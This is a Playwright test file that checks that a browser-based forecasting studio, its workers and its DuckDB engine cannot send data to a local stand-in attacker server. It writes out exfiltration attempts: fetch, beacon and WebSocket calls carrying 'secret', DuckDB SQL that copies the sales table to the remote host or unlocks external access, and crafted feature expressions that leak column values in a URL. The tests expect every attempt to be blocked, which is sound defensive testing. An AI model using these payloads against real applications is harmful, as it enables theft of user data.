import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Browser, type Page } from '@playwright/test';
import { freshPage, applyMapping } from './helpers';
import { SECURITY_HEADERS } from '../../src/lib/security/csp';

// An attacker's listener on another loopback port: every way out of the tab is tried against it, and
// it must receive nothing. It answers anything with CORS open, so a request that got through would work.
let server: http.Server;
const hits: string[] = [];
let target = '';
test.describe.configure({ mode: 'serial' });
let page: Page;
let browserRef: Browser;

test.beforeAll(async ({ browser }) => {
  server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/csv' });
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  target = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browserRef = browser;
  page = await browser.newPage();
});
test.afterAll(async () => {
  await page?.close();
  server?.close();
});

type Studio = { __studio: { db(): Record<string, (...a: unknown[]) => Promise<unknown>>; trainer(): Record<string, (...a: unknown[]) => Promise<unknown>>; sql(q: string, mode?: string): Promise<unknown> } };

/** Tries every network API of the current context against `url`; returns one outcome per API. Runs in the browser. */
const probe = async (url: string): Promise<Record<string, string>> => {
  const out: Record<string, string> = {};
  const settle = async (name: string, f: () => Promise<unknown>) => {
    try {
      const r = await Promise.race([f(), new Promise((res) => setTimeout(() => res('timeout'), 3000))]);
      out[name] = `ok:${String(r).slice(0, 60)}`;
    } catch (e) {
      out[name] = `refused:${String((e as Error).message ?? e).slice(0, 80)}`;
    }
  };
  await settle('fetch', () => fetch(`${url}/fetch?d=secret`).then((r) => r.status));
  await settle('xhr', () => new Promise((res, rej) => {
    const x = new XMLHttpRequest();
    x.open('GET', `${url}/xhr`);
    x.onload = () => res(x.status);
    x.onerror = () => rej(new Error('network error'));
    x.send();
  }));
  await settle('websocket', () => new Promise((res, rej) => {
    const w = new WebSocket(url.replace('http', 'ws') + '/ws');
    w.onopen = () => res('open');
    w.onerror = () => rej(new Error('ws error'));
  }));
  await settle('eventsource', () => new Promise((res, rej) => {
    const E = (globalThis as unknown as { EventSource?: typeof EventSource }).EventSource;
    if (!E) return rej(new Error('no EventSource here'));
    const s = new E(`${url}/sse`);
    s.onopen = () => res('open');
    s.onerror = () => {
      s.close();
      rej(new Error('sse error'));
    };
  }));
  const nav = (globalThis as unknown as { navigator: Navigator }).navigator;
  if (typeof nav.sendBeacon === 'function') await settle('beacon', async () => { if (!nav.sendBeacon(`${url}/beacon`, 'secret')) throw new Error('beacon refused'); return 'queued'; });
  const imp = (globalThis as unknown as { importScripts?: (u: string) => void }).importScripts;
  if (imp) await settle('importScripts', async () => imp(`${url}/x.js`));
  return out;
};

const expectAllRefused = (where: string, r: Record<string, string>) => {
  for (const [api, outcome] of Object.entries(r)) expect(`${where} ${api}: ${outcome}`).toMatch(new RegExp(`^${where} ${api}: refused:`));
};

test('every file, workers included, is served with the policy header; the studio still works under it', async () => {
  const headers = new Map<string, string | undefined>();
  page.on('response', (r) => headers.set(new URL(r.url()).pathname.split('/').pop()!, r.headers()['content-security-policy']));
  await freshPage(page);
  await page.getByTestId('load-sample').click();
  await expect(page.getByTestId('ingest-summary')).toContainText('54,750 rows');
  await applyMapping(page);
  // The train worker with TF.js on its wasm backend (its .wasm comes from this origin under the policy).
  const info = await page.evaluate(() => (globalThis as unknown as Studio).__studio.trainer().backend('wasm'));
  expect(JSON.stringify(info)).toMatch(/wasm/);
  const policy = SECURITY_HEADERS['Content-Security-Policy'];
  const files = [...headers.keys()];
  for (const w of ['db.worker', 'duckdbWorker', 'train.worker', 'duckdb-eh']) {
    const f = files.find((n) => n.startsWith(w));
    expect(f, `${w} was loaded`).toBeTruthy();
    expect(headers.get(f!), f).toBe(policy);
  }
  expect(headers.get('')).toBe(policy); // the document
});

test('the page cannot reach the listener (guard and policy), nor can a worker it starts from a blob:', async () => {
  expectAllRefused('page', await page.evaluate(probe, target));
  // An <img> is not wrapped by the guard: only the policy (img-src) stops it.
  const img = await page.evaluate((u) => new Promise<string>((res) => {
    const i = new Image();
    i.onload = () => res('loaded');
    i.onerror = () => res('refused');
    i.src = `${u}/pixel.png`;
  }), target);
  expect(img).toBe('refused');
  // A blob: worker has no guard inside: the document's policy (inherited) is what refuses its fetch.
  // (In a page of its own: a worker without the guard cannot answer the audit of the main page.)
  const other = await browserRef.newPage();
  await other.goto('/');
  const blob = await other.evaluate((u) => new Promise<string>((res) => {
    const src = `fetch(${JSON.stringify(u)} + '/blob-worker').then((r) => postMessage('ok ' + r.status), (e) => postMessage('refused ' + e.message))`;
    const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
    w.onmessage = (e) => res(String(e.data));
    setTimeout(() => res('timeout'), 5000);
  }), target);
  expect(blob).toMatch(/^refused/);
  await other.close();
});

test('no worker can reach the listener: db worker, DuckDB’s worker, train, promotion and replenishment workers', async () => {
  // The promotion and replenishment workers start on first use (the Promo and Replenish steps): start them.
  await page.evaluate(() => {
    const s = (globalThis as unknown as { __studio: { promoWorker(): unknown; replenisher(): unknown } }).__studio;
    s.promoWorker();
    s.replenisher();
  });
  const expected = ['db.worker', 'duckdbWorker', 'train.worker', 'promo.worker', 'replenish.worker'];
  const nameOf = (u: string) => new URL(u).pathname.split('/').pop()!;
  await expect.poll(() => expected.filter((w) => page.workers().some((x) => nameOf(x.url()).startsWith(w))).length, { timeout: 30_000 }).toBe(expected.length);
  const workers = page.workers();
  const names = workers.map((w) => nameOf(w.url()));
  for (const w of expected) expect(names.some((n) => n.startsWith(w)), `${w} in ${names}`).toBe(true);
  for (const w of workers) {
    if (w.url().startsWith('blob:')) continue;
    const name = new URL(w.url()).pathname.split('/').pop()!;
    const r = await w.evaluate(probe, target);
    expect(Object.keys(r)).toEqual(expect.arrayContaining(['fetch', 'xhr', 'websocket']));
    expectAllRefused(name, r);
  }
  // DuckDB's own worker is started by the db worker (nested); Chromium lists it too.
});

test('DuckDB cannot reach out through SQL, and the configuration cannot be unlocked', async () => {
  const sql = (s: string) =>
    page.evaluate((q) => (globalThis as unknown as Studio).__studio.sql(q, 'exec').then(() => 'accepted', (e: Error) => `refused: ${e.message}`), s);
  const attempts = [
    `SELECT * FROM read_csv('${target}/x.csv')`,
    `SELECT * FROM read_csv_auto('${target}/x.csv')`,
    `SELECT * FROM '${target}/x.csv'`,
    `SELECT * FROM read_parquet('${target}/x.parquet')`,
    `SELECT * FROM read_json('${target}/x.json')`,
    `SELECT * FROM read_text('${target}/x.txt')`,
    `ATTACH '${target}/x.db' AS remote`,
    `COPY (SELECT * FROM sales) TO '${target}/out.csv'`,
    `COPY sales TO 'leak.csv'`,
    `INSTALL httpfs FROM '${target}'`,
    'LOAD httpfs',
    `SET custom_extension_repository = '${target}'`,
    'SET enable_external_access = true',
    "SET allowed_directories = ['/']",
    'SET lock_configuration = false',
    'SET autoload_known_extensions = true',
    'RESET enable_external_access',
  ];
  for (const a of attempts) expect(`${a} → ${await sql(a)}`).toMatch(/→ refused: /);
  // Uploaded data is still read (the sample was registered under /uploads/ and loaded above).
  const n = await page.evaluate(() => (globalThis as unknown as Studio).__studio.sql('SELECT count(*)::INTEGER AS n FROM sales'));
  expect(n).toEqual([{ n: 54750 }]);
});

test('the custom-feature expressions of the issue, and a crafted project file’s SQL, are refused', async () => {
  const exprs = [
    `struct_pack("a'" := 0, b := (SELECT count(*)::DOUBLE FROM raw), "c'" := 0).b`,
    `struct_pack("a'" := 0, b := (SELECT count(*)::DOUBLE FROM duckdb_tables()), "c'" := 0).b`,
    `struct_pack("a'" := 0, b := (SELECT count(*)::DOUBLE FROM read_csv('${target}/x.csv')), "c'" := 0).b`,
    `y + length(CAST((SELECT list(y) FROM sales) AS VARCHAR))`,
    `read_csv('${target}/x.csv?d=' || y)`,
  ];
  for (const sql of exprs) {
    const r = (await page.evaluate((f) => (globalThis as unknown as Studio).__studio.db().checkCustomFeature(f), { name: 'leak', sql })) as { ok: boolean; message?: string };
    expect(r.ok, sql).toBe(false);
    expect(r.message).toMatch(/not allowed/);
  }
  // Through the editor, as a user would paste it: refused with the position in what was typed.
  await page.getByRole('button', { name: /Features/ }).click();
  await page.getByTestId('custom-name').fill('leak');
  await page.getByTestId('custom-sql').fill(exprs[2]);
  await page.getByTestId('custom-add').click();
  await expect(page.getByTestId('custom-error')).toContainText('line 1, column 30');
  await expect(page.getByTestId('custom-error')).toContainText('"SELECT" is not allowed');
  // A project file someone else made carries SQL: the studio has no project import yet, so its SQL goes
  // through the same check in the worker, and a feature spec carrying it builds nothing from it.
  const crafted = { custom: [{ name: 'leak', sql: exprs[0] }, { name: 'beacon', sql: exprs[4] }] };
  const built = (await page.evaluate((spec) => (globalThis as unknown as Studio).__studio.db().buildFeatures(spec, { h: 7, strategy: 'direct', future: false }), crafted)) as { issues: { code: string; where?: string }[]; columns: { name: string }[] };
  for (const name of ['leak', 'beacon']) {
    expect(built.issues.find((i) => i.where === name)?.code).toBe('custom_feature_rejected');
    expect(built.columns.some((c) => c.name === name)).toBe(false);
  }
});

test('the listener received nothing, and the request audit says so', async () => {
  await page.waitForTimeout(500);
  expect(hits).toEqual([]);
  const button = page.getByTestId('request-audit');
  await expect(button).toHaveText('0 requests left this device', { timeout: 15_000 });
  await button.click();
  const panel = page.getByTestId('request-audit-panel');
  await expect(panel).toBeVisible();
  await expect(panel.locator('tr[data-status=outside]')).toHaveCount(0);
  // The blocked attempts are listed, from the page and from the workers, DuckDB's included.
  const blocked = await panel.locator('tr[data-status=blocked]').allTextContents();
  expect(blocked.some((t) => t.startsWith('page') && t.includes(target))).toBe(true);
  expect(blocked.some((t) => t.includes('db') && t.includes(target))).toBe(true);
  expect(blocked.some((t) => t.includes('duckdb') && t.includes(target))).toBe(true);
  expect(blocked.some((t) => t.includes('train') && t.includes(target))).toBe(true);
  // The studio's own code never needed anything the policy forbids (e.g. JavaScript eval).
  expect(blocked.filter((t) => t.includes('policy:script-src'))).toEqual([]);
  // The <img> the policy refused (the guard does not wrap images) is listed as blocked by the policy.
  expect(blocked.some((t) => t.startsWith('page') && t.includes('policy:img-src'))).toBe(true);
  // Requests to the site's own files are listed with their context (the wasm engine from DuckDB's loader).
  await expect(panel.locator('tr[data-status=site]').filter({ hasText: 'duckdb-eh' }).first()).toBeAttached();
  expect(hits).toEqual([]);
});
